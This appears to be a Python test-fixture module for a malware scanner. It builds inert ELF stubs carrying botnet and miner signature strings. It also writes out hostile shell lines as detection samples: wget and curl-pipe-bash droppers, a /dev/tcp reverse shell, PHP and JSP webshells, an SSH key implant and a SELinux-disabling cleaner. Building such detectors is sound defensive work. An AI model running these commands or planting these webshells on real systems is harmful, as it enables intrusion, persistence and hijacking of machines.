"""Payloads made here: stubs that run nowhere, and texts that say what malware says and do nothing."""

from __future__ import annotations

from importlib.resources import files

from urltrap.analysis import Signatures, compile_rules


def rules() -> Signatures:
    folder = files("urltrap.analysis") / "rules"
    return compile_rules(
        {item.name: item.read_text("utf-8") for item in folder.iterdir() if item.name.endswith(".yar")}
    )


def elf(*strings: bytes, bits: int = 32, little: bool = True, machine: int = 8, key: int = 0) -> bytes:
    """An ELF header with one program header, no code, and strings behind it (XORed with `key`)."""
    order = "little" if little else "big"

    def number(value: int, size: int) -> bytes:
        return value.to_bytes(size, order)  # type: ignore[arg-type]

    wide = bits == 64
    word = 8 if wide else 4
    head = b"\x7fELF" + bytes([2 if wide else 1, 1 if little else 2, 1]) + bytes(9)
    size, entry = (64, 56) if wide else (52, 32)
    head += number(2, 2) + number(machine, 2) + number(1, 4) + number(0x10000, word) + number(size, word)
    head += number(0, word) + number(0, 4) + number(size, 2) + number(entry, 2) + number(1, 2)
    head += number(40, 2) + number(0, 2) + number(0, 2)
    body = b"\0".join(strings) + b"\0"
    return head + number(1, 4) + bytes(entry - 4) + bytes(byte ^ key for byte in body)


MIRAI = (b"/dev/watchdog", b"/dev/misc/watchdog", b"/proc/net/tcp", b"/proc/self/exe", b"assword", b"ncorrect",
         b"/bin/busybox", b"applet not found", b"listening tun0", b"enable", b"system")  # fmt: skip

LOOKALIKES: dict[str, tuple[bytes, str]] = {
    "mirai": (elf(*MIRAI), "Mirai"),
    "mirai xored": (elf(*MIRAI, key=0x22), "Mirai"),
    "mirai unstripped": (elf(b"attack_udp_vse", b"attack_gre_ip", b"killer_init", b"scanner_init"), "Mirai"),
    "mozi": (elf(b"Mozi.m", b"dht.transmissionbt.com:6881", b"[ss]", b"[/ss]", b"[hp]", b"[/hp]"), "Mozi"),
    "gafgyt": (elf(b"PING", b"GETLOCALIP", b"LOLNOGTFO", b"KILLATTK", b"My IP: %s", b"None Killed."), "Bashlite"),
    "tsunami": (
        elf(b"NOTICE %s :TSUNAMI <target> <secs>\n", b"NOTICE %s :GETSPOOFS\n", b"NOTICE %s :KILLALL\n"), "Tsunami",
    ),
    "xorddos": (elf(b"BB2FA36AAA9541F0", b"/etc/cron.hourly/gcc.sh", b"/lib/libudev.so.6"), "XOR DDoS"),
    "hajime": (elf(b"Just a white hat, securing some systems.", b"Stay sharp!"), "Hajime"),
    "xmrig": (elf(b"XMRig 6.20.0", b"donate-level", b"--nicehash", b"rx/0", b"stratum+tcp://"), "XMRig"),
    "miner config": (
        b'{"donate-level": 1, "pools": [{"url": "pool.example:3333", "user": "' + b"4" * 95 + b'", "rig-id": "a"}]}',
        "XMRig",
    ),
    "outlaw": (b'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nz mdrfckr">>.ssh/authorized_keys', "Outlaw"),
    "perl bot": (
        b"#!/usr/bin/perl\nuse IO::Socket;\nprint $s 'NICK a'; 'JOIN #b'; 'PRIVMSG'; # udpflood tcpflood", "PerlBot",
    ),
    "eicar": (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*", "EICAR-Test-File"),
}  # fmt: skip
"""Name → (bytes, family). None of them does anything: headers without code, strings, and texts that end nowhere."""

TRAITS: dict[str, tuple[bytes, str, str]] = {
    "dropper": (
        b"cd /tmp; wget http://198.51.100.9/x -O .x; chmod 777 .x; ./.x; rm -f .x\n", "dropper-script", "shell_dropper",
    ),
    "piped dropper": (b"#!/bin/sh\ncurl -s http://198.51.100.9/i.sh | bash\n", "dropper-script", "shell_dropper"),
    "ftpget dropper": (
        b"ftpget -u anonymous -p x 198.51.100.9 ntpd ntpd; chmod 777 ntpd ./ntpd; rm -rf ntpd\n", "dropper-script",
        "shell_dropper",
    ),
    "architectures": (
        b"for a in bot.mips bot.mpsl bot.arm bot.arm5 bot.arm7 bot.sh4; do wget $H/$a; done\n", "dropper-script",
        "many_architectures",
    ),
    "key implant": (
        b"mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAA" + b"C" * 64 + b" a' >> ~/.ssh/authorized_keys\n", "key-implant",
        "ssh_key_implant",
    ),
    "php shell": (b"<?php @eval($_POST['x']); ?>", "payload", "php_webshell"),
    "php shell in base64": (b"<?php eval(base64_decode($_REQUEST['c']));", "payload", "php_webshell"),
    "jsp shell": (b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>', "payload", "jsp_asp_webshell"),
    "reverse shell": (b"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n", "payload", "reverse_shell"),
    "miner script": (
        b"pkill -f xmrig\nnohup ./m -o stratum+tcp://pool.example:3333 -u " + b"4" * 30 + b" &\ncd /tmp\n",
        "dropper-script", "miner_script",
    ),
    "rival cleaner": (
        b"pkill -f kinsing\ncrontab -l | sed '/update.sh/d' | crontab -\nsetenforce 0\n", "dropper-script",
        "rival_cleaner",
    ),
}  # fmt: skip
"""Name → (bytes, role, rule)."""

HARMLESS: dict[str, bytes] = {
    "installer": b"#!/bin/sh\nset -e\napt-get update\napt-get install -y curl\nsystemctl enable nginx\n",
    "changelog": b"mirai (1.0) unstable; urgency=low\n  * Mentions /bin/busybox, /dev/watchdog and wget.\n",
    "page about keys": b"<html><body>Put your key ssh-rsa AAAA into ~/.ssh/authorized_keys.</body></html>",
    "configure": b"#!/bin/sh\ntest -f ./config.h && chmod 644 config.h\n./configure --prefix=/usr\nmake\n",
    "php": b"<?php echo htmlspecialchars($_POST['name']); ?>",
    "json": b'{"pools": 3, "url": "https://example.org", "user": "me"}',
    "busybox-like": elf(b"/bin/busybox", b"applet not found", b"/proc/self/exe", b"/etc/passwd"),
}
